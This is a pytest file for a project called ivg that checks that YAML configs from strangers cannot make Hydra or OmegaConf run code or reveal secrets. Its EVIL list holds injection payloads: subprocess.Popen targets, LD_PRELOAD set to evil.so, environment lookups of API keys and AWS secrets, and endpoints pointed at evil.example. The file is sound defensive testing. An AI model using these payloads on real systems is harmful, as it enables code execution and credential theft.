"""A YAML from a stranger can't run code: not in ivg's config, and not in Hydra's own."""

import re

import pytest
from composing import composed
from hydra.core.hydra_config import HydraConfig
from omegaconf import OmegaConf
from running import ivg

from ivg.compose import composed as composed_from
from ivg.errors import ConfigError, IvgError
from ivg.hydra_node import check_hydra_node, environment
from ivg.plan import make_plan, resolved

SOURCE = "source: {_target_: ivg.sources.local.LocalSource, path: "
TO_FILE = "{class: logging.FileHandler, delay: true, filename: "
CMA = "optuna.samplers.CmaEsSampler"
SLURM = "defaults: [override /hydra/launcher: submitit_slurm]\n"
LOCAL = "hydra_plugins.hydra_submitit_launcher.submitit_launcher.LocalLauncher"
EVIL = [
    "hydra: {callbacks: {evil: {_target_: subprocess.Popen, args: [touch, MARK]}}}",
    "hydra: {callbacks: {evil: {_target_: hydra.utils.call, config: {_target_: os.mkdir}}}}",
    "hydra: {launcher: {_target_: os.mkdir}}",
    "hydra: {sweeper: {_target_: hydra_plugins.os.mkdir}}",
    "hydra: {sweeper: {sampler: {_target_: os.mkdir, seed: 1}}}",
    "hydra: {job_logging: {formatters: {evil: {(): os.mkdir, path: MARK}}}}",
    "hydra: {job_logging: {handlers: {evil: {class: subprocess.Popen, args: [touch, MARK]}}}}",
    "hydra: {hydra_logging: {handlers: {console: {stream: 'ext://os.environ'}}}}",
    "hydra: {job: {env_set: {IVG_PACKAGES: os}}}",
    "hydra: {job: {env_set: {LD_PRELOAD: evil.so}}}",
    "hydra: {job: {env_set: {NCCL_NET_PLUGIN: evil.so}}}",
    "captioner: {_target_: os.mkdir, path: MARK}",
    SOURCE + "[{deep: {_target_: os.mkdir, path: MARK}}]}",
    SOURCE + "'\\${oc.decode:\"{_target_: os.mkdir, path: MARK}\"}'}",
    SOURCE + "'${oc.decode:\"{_target_: os.mkdir, path: MARK}\"}'}",
    SOURCE + "'\\${oc.env:OPENAI_API_KEY}'}",
    SOURCE + "'${oc.env:HTTPS_PROXY}'}",
    "captioner: {_target_: ivg.targets.os.mkdir, path: MARK}",
    "captioner: {_target_: ivg.targets.build, config: {_target_: os.mkdir}}",
    "name: os.mkdir\ncaptioner: {_target_: '${name}', path: MARK}",
    SOURCE + "'${oc.env:OPENAI_API_KEY}'}",
    SOURCE + "'${oc.env:AWS_SECRET_ACCESS_KEY,none}'}",
    "x: {a: {_target_: os.mkdir, path: MARK}}\nhydra: {callbacks: '${x}'}",
    "x: {a: {_target_: os.mkdir, path: MARK}}\nhydra: {callbacks: {evil: '${x.a}'}}",
    "hydra: {callbacks: {evil: '${oc.decode:\"{_target_: os.mkdir, path: MARK}\"}'}}",
    "hydra: {callbacks: {evil: '${oc.decode:${hydra.job.num}}'}}",
    "hydra: {callbacks: {evil: {_target_: ivg.targets.os.mkdir, path: MARK}}}",
    "hydra: {job_logging: {formatters: {evil: {(): logging.os.mkdir, path: MARK}}}}",
    "hydra: {job_logging: {formatters: {evil: {(): ivg.targets.os.mkdir, path: MARK}}}}",
    "hydra: {job_logging: {handlers: {evil: {class: 'logging.${hydra.job.num}'}}}}",
    "hydra: {job_logging: {handlers: {evil: {class: logging.handlers.SocketHandler}}}}",
    "hydra: {job_logging: {handlers: {file: {class: logging.FileHandler, filename: MARK}}}}",
    "x: {(): os.mkdir, path: MARK}\nhydra: {job_logging: {formatters: {evil: '${x}'}}}",
    "x: {f: {(): os.mkdir, path: MARK}}\nhydra: {job_logging: {formatters: '${x}'}}",
    "x: ng.os.mkdir\nhydra: {job_logging: {formatters: {evil: {(): 'loggi${x}', path: MARK}}}}",
    "hydra: {job: {env_set: '${oc.decode:\"{LD_PRELOAD: evil.so}\"}'}}",
    "hydra: {job: {env_set: {IMAGEIO_FFMPEG_EXE: /tmp/evil}}}",
    "hydra: {job: {env_set: {WANDB_BASE_URL: 'http://evil.example'}}}",
    "hydra: {sweeper: {custom_search_space: subprocess.Popen}}",
    "hydra: {sweeper: {custom_search_space: ivg.targets.os.mkdir}}",
    "x: {log: MARK}\nhydra: {job_logging: {x: '${x}', handlers: {f: "
    + TO_FILE
    + "'cfg://x.log'}}}}",
    "hydra: {job_logging: {handlers: {file: " + TO_FILE + "a.log, .: {baseFilename: MARK}}}}}",
    "hydra: {sweeper: {storage: 'sqlite:///a.db', sampler: {_target_: " + CMA + "}}}",
    "hydra: {sweeper: {sampler: {seed: 1}, storage: 'redis://evil.example'}}",
    SLURM + "hydra: {launcher: {_target_: " + LOCAL + ", setup: [touch MARK]}}",
]
WHY = re.compile(r"a shared YAML may|outside the known|is no class of|be a secret|can't be")
LEFT_TO_HYDRA = [text for text in EVIL if "${x" in text or "logging.os" in text]
OPTUNA = "defaults: [override /hydra/sweeper: optuna]\n"


def shared(folder, text):
    """A config folder as one would be passed on; returns what evil would leave behind."""
    mark = folder / "mark"
    place = folder / "conf" / "experiment"
    place.mkdir(parents=True)
    head = "# @package _global_\n"
    optuna = OPTUNA if "custom_search" in text or "sampler" in text else ""
    text = head + optuna + text.replace("MARK", str(mark)) + "\n"
    (place / "shared.yaml").write_text(text)
    return mark


def planned(folder):
    make_plan(resolved(composed_from(["experiment=shared"], folder / "conf")), folder)


@pytest.mark.parametrize("text", EVIL)
def test_shared_yaml_runs_nothing(tmp_path, monkeypatch, text):
    monkeypatch.setenv("OPENAI_API_KEY", "sk-planted")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "planted")
    monkeypatch.setenv("HTTPS_PROXY", "http://me:planted@proxy.example:3128")
    mark = shared(tmp_path, text)
    with pytest.raises(IvgError) as caught:
        planned(tmp_path)
    assert "planted" not in str(caught.value)
    assert WHY.search(str(caught.value)), caught.value
    assert not mark.exists()


@pytest.mark.parametrize("text", [EVIL[0], EVIL[5], EVIL[8], *LEFT_TO_HYDRA])
def test_build_refuses_a_shared_yaml_before_it_runs(tmp_path, text):
    mark = shared(tmp_path, text)
    conf = str(tmp_path / "conf")
    done = ivg("build", "--config-dir", conf, "experiment=shared", cwd=tmp_path, check=False)
    assert done.returncode != 0
    assert "ConfigError" in done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    assert not mark.exists()


def test_what_hydra_has_itself_is_let_through():
    composed("hydra/sweeper=optuna")
    check_hydra_node(
        {"callbacks": {"log": {"_target_": "hydra.experimental.callbacks.LogJobReturnCallback"}}}
    )


def test_plain_environment_is_still_read(monkeypatch):
    monkeypatch.setenv("MY_VIDEOS", "/videos")
    assert resolved(composed("store.dir=${oc.env:MY_VIDEOS}"))["store"]["dir"] == "/videos"
    assert resolved(composed("store.dir=${oc.env:NOT_THERE,here}"))["store"]["dir"] == "here"
    with pytest.raises(ConfigError, match="NOT_THERE"):
        resolved(composed("store.dir=${oc.env:NOT_THERE}"))


def test_password_of_sshpass_is_not_read(monkeypatch):
    monkeypatch.setenv("SSHPASS", "planted-ssh-0011")
    with pytest.raises(ConfigError, match="may be a secret"):
        resolved(composed("store.dir=${oc.env:SSHPASS}"))


def test_default_of_a_variable_is_a_text_and_nothing_to_be_built():
    default = {"_target_": "os.mkdir", "path": "here"}
    assert environment("NOT_THERE", default) == str(default)
    assert environment("NOT_THERE", None) is None


def test_interpolations_in_what_hydra_builds_are_settled_or_left_for_the_job():
    """The log's file is not known before it runs; the name of a partition is."""
    overrides = ["hydra/launcher=submitit_slurm", "hydra.launcher.partition=${device}"]
    composed(*overrides, "device=cpu", "hydra.launcher.name=${hydra.job.num}")
    node = OmegaConf.to_container(HydraConfig.instance().cfg, resolve=False)["hydra"]
    assert node["launcher"]["partition"] == "cpu"
    assert node["launcher"]["name"] == "${hydra.job.num}"
    file = "${hydra.runtime.output_dir}/${hydra.job.name}.log"
    assert node["job_logging"]["handlers"]["file"]["filename"] == file
